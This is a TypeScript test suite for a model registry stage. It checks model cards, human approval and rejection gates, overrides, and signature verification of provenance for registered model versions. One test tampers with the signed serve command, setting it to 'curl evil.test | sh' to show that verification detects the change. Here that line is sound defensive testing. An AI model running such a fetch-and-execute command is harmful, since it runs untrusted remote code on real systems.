import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { readAttachedRecord, recordAttachment } from '../../shared/registries/packaged-model.ts';
import { sampleEvaluation, sampleTraining } from '../../shared/testing/sample-records.ts';
import { NAME, RegisterStage } from './fixtures/register-stage.ts';

let stage: RegisterStage;
beforeEach(async () => {
  stage = await RegisterStage.open(sampleEvaluation);
});
afterEach(() => stage.close());

describe('what register keeps beside the model', () => {
  test('is its values, its environment and a card with a person’s words', async () => {
    const { path, digest } = await stage.makeModel('m1');
    await stage.evaluate(digest, 'pass');
    await stage.records.write({ ...sampleTraining(), name: NAME, subject: { digest } });
    const lock = join(stage.folder, 'uv.lock');
    await writeFile(lock, 'version = 1\n');
    const words = join(stage.folder, 'CARD.md');
    await writeFile(words, '---\nlicense: mit\n---\nNot for safety decisions.\n');
    const { record } = await stage.act({
      model: path,
      environment: lock,
      'model-card': words,
      stage: 'test',
    });
    expect(record).toMatchObject({
      approval: 'approved',
      stage: 'test',
      metrics: { roc_auc: expect.any(Number) },
      environment: { python: sampleTraining().environment.python, files: [{ name: 'uv.lock' }] },
    });
    const [card] = await stage.registry.attachments(digest, 'model-card');
    const text = new TextDecoder().decode(await card!.read());
    expect(text).toContain('license: mit');
    expect(text).toContain('Not for safety decisions.');
    const [kept] = await stage.registry.attachments(digest, 'environment');
    expect(new TextDecoder().decode(await kept!.read())).toBe('version = 1\n');
    expect(await stage.registry.standing(digest)).toMatchObject({
      approval: 'approved',
      stage: 'test',
      by: 'ann',
    });
  });

  test('is nothing when the image is only half asked for', async () => {
    const { path, digest } = await stage.makeModel('m1');
    await expect(stage.act({ model: path, 'base-image': 'python:3.13' })).rejects.toThrow(
      'needs the input image',
    );
    const half = { model: path, 'base-image': 'python:3.13', image: 'ghcr.io/a/b:1' };
    await expect(stage.act(half)).rejects.toThrow('needs the input serve-command');
    expect(await stage.registry.resolve(digest)).toBeUndefined();
  });
});

describe('approval', () => {
  test('is said by nobody of a version that was not judged, and by the gate once it was', async () => {
    const { path, digest } = await stage.makeModel('m1');
    expect((await stage.act({ model: path })).record.approval).toBeNull();
    expect(await stage.registry.standing(digest)).not.toHaveProperty('approval');
    await stage.evaluate(digest, 'pass');
    const promote = { operation: 'promote', model: `${NAME}@${digest}`, aliases: 'champion' };
    expect((await stage.act(promote)).record.verdict).toBe('pass');
    expect((await stage.act({ model: path })).record.approval).toBe('approved');
    expect(await stage.registry.standing(digest)).toMatchObject({ approval: 'approved' });
  });

  test('waits where a person is asked for it, and then lets the version be promoted', async () => {
    const digest = await stage.register('m1', { approval: 'pending' });
    const promote = { operation: 'promote', model: `${NAME}@${digest}`, aliases: 'champion' };
    expect((await stage.act(promote)).record).toMatchObject({
      verdict: 'fail',
      reason: 'Not promoted: it waits for approval.',
    });
    const approve = { operation: 'approve', model: `${NAME}@${digest}`, reason: 'looked at the slices' };
    const { record } = await stage.act(approve);
    expect(record).toMatchObject({ operation: 'approve', verdict: 'pass', approval: 'approved' });
    expect(record.reason).toBe('The version is approved, was pending: looked at the slices.');
    expect((await stage.act(promote)).record).toMatchObject({ verdict: 'pass', approval: 'approved' });
    expect((await stage.registry.resolve('champion'))?.digest).toBe(digest);
  });

  test('that is refused keeps the version from use, with the name and the reason', async () => {
    const digest = await stage.register('m1');
    const reject = {
      operation: 'approve',
      model: `${NAME}@${digest}`,
      approval: 'rejected',
      reason: 'leaks',
    };
    await stage.act(reject);
    const promote = { operation: 'promote', model: `${NAME}@${digest}`, aliases: 'champion' };
    expect((await stage.act(promote)).record.reason).toBe('Not promoted: it was rejected by ann (leaks).');
    // Registering the same bytes again does not take back what a person said.
    await stage.register('m1');
    expect(await stage.registry.standing(digest)).toMatchObject({ approval: 'rejected' });
    // Nor does it bring an alias to what a person rejected.
    const anew = { model: join(stage.folder, 'm1'), aliases: 'champion' };
    expect((await stage.act(anew)).record).toMatchObject({
      verdict: 'fail',
      reason: 'Not registered: it was rejected by ann (leaks).',
    });
    expect(await stage.registry.resolve('champion')).toBeUndefined();
    const forced = await stage.act({ ...promote, 'override-reason': 'the leak is harmless' });
    expect(forced.record).toMatchObject({ verdict: 'warn', gate: 'overridden' });
  });
});

describe('signatures', () => {
  test('of nobody leave the statement of how the version came about, unsigned', async () => {
    const digest = await stage.register('m1');
    const [file] = await stage.registry.attachments(digest, 'statement');
    const statement = JSON.parse(new TextDecoder().decode(await file!.read()));
    expect(statement).toMatchObject({
      _type: 'https://in-toto.io/Statement/v1',
      predicateType: 'https://slsa.dev/provenance/v1',
      subject: [{ name: NAME, digest: { sha256: digest.slice(7) } }],
    });
    expect(await stage.registry.attachments(digest, 'provenance')).toEqual([]);
  });

  test('are made with the version and verified with the public key', async () => {
    const keys = await stage.writeKeys('ours');
    const digest = await stage.register('m1', { 'signing-key': keys.privateKey });
    const kept = await readAttachedRecord(stage.registry, digest, 'ModelVersion');
    expect(kept?.provenance).toMatchObject({ signature: 'valid', statement: 'valid' });
    const verify = { operation: 'verify', model: `${NAME}@${digest}`, 'verification-key': keys.publicKey };
    const { record } = await stage.act(verify);
    expect(record).toMatchObject({ verdict: 'pass', provenance: kept?.provenance });
    const promote = { operation: 'promote', model: `${NAME}@${digest}`, aliases: 'champion' };
    const signed = { ...promote, 'verification-key': keys.publicKey };
    expect((await stage.act(signed)).record.verdict).toBe('pass');
  });

  test('cover what is run and believed with the model, whoever attaches it anew', async () => {
    const keys = await stage.writeKeys('ours');
    const code = join(stage.folder, 'code');
    await mkdir(code);
    await writeFile(join(code, 'serve.py'), 'serve()');
    const given = { code, 'serve-command': 'python serve.py', 'signing-key': keys.privateKey };
    const digest = await stage.register('m1', given);
    const verify = { operation: 'verify', model: `${NAME}@${digest}`, 'verification-key': keys.publicKey };
    expect((await stage.act(verify)).record.verdict).toBe('pass');
    await stage.registry.attach(digest, 'code', [{ name: 'code.tar', bytes: Buffer.from('evil') }]);
    const { record } = await stage.act(verify);
    expect(record).toMatchObject({ verdict: 'fail', provenance: { signature: 'valid' } });
    expect(record.reason).toContain('not what was signed: code.');
    // Registered again with the key, all of it is signed.
    await stage.register('m1', given);
    expect((await stage.act(verify)).record.verdict).toBe('pass');
    const version = (await readAttachedRecord(stage.registry, digest, 'ModelVersion'))!;
    const other = recordAttachment({ ...version, serveCommand: 'curl evil.test | sh' });
    await stage.registry.attach(digest, other.role, other.files);
    expect((await stage.act(verify)).record.reason).toContain('not what was signed: serve-command.');
    await stage.register('m1', given);
    const evaluation = (await readAttachedRecord(stage.registry, digest, 'Evaluation'))!;
    const better = recordAttachment({ ...evaluation, reason: 'all is well' });
    await stage.registry.attach(digest, better.role, better.files);
    expect((await stage.act(verify)).record.reason).toContain('not what was signed: Evaluation.');
  });

  test('of nobody or of another key are refused, whatever reason is given', async () => {
    const [ours, theirs] = [await stage.writeKeys('ours'), await stage.writeKeys('theirs')];
    const unsigned = await stage.register('m1');
    const signed = await stage.register('m2', { 'signing-key': theirs.privateKey });
    for (const [digest, state] of [
      [unsigned, 'missing'],
      [signed, 'invalid'],
    ] as const) {
      const given = { model: `${NAME}@${digest}`, 'verification-key': ours.publicKey };
      const { record } = await stage.act({ operation: 'verify', ...given });
      expect(record).toMatchObject({ verdict: 'fail', provenance: { signature: state } });
      const forced = { operation: 'promote', aliases: 'champion', 'override-reason': 'please', ...given };
      expect((await stage.act(forced)).record).toMatchObject({ verdict: 'fail', gate: 'refused' });
    }
    expect(await stage.registry.resolve('champion')).toBeUndefined();
  });

  test.each(['model', 'model-card'])(
    'cover bytes: with a damaged %s a version is not verified',
    async (part) => {
      const keys = await stage.writeKeys('ours');
      const digest = await stage.register('m1', { 'signing-key': keys.privateKey });
      const [layer] = JSON.parse(
        await readFile(join(stage.folder, 'store', NAME, 'blobs/sha256', digest.slice(7)), 'utf8'),
      ).layers;
      const [attached] = await stage.registry.attachments(digest, part);
      const damaged: string = (attached ?? layer).digest;
      const blob = join(stage.folder, 'store', NAME, 'blobs/sha256', damaged.slice(7));
      await rm(blob);
      await writeFile(blob, 'xx');
      const verify = { operation: 'verify', model: `${NAME}@${digest}`, 'verification-key': keys.publicKey };
      const { record } = await stage.act(verify);
      expect(record).toMatchObject({ verdict: 'fail', provenance: { signature: 'valid' } });
      expect(record.reason).toContain(`${damaged} was expected`);
    },
  );

  test('need a key that can be read before anything is stored', async () => {
    const { path, digest } = await stage.makeModel('m1');
    await stage.evaluate(digest, 'pass');
    const given = { model: path, 'signing-key': join(stage.folder, 'none.key') };
    await expect(stage.act(given)).rejects.toMatchObject({ where: { key: 'signing-key' } });
    expect(await stage.registry.resolve(digest)).toBeUndefined();
  });
});
